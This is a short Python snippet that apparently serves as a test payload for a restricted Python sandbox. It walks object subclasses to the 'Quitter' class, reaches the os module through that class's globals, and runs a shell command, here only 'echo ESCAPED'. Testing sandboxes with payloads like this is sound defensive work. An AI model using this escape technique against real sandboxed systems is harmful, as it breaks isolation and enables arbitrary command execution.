# kind: subclasses
# effect: prints ESCAPED
owner = str.join.__objclass__
base = owner.__bases__[0]
for sub in base.__subclasses__():
    if sub.__name__ == "Quitter":
        sub.__init__.__globals__["sys"].modules["os"].system("echo ESCAPED")
        break
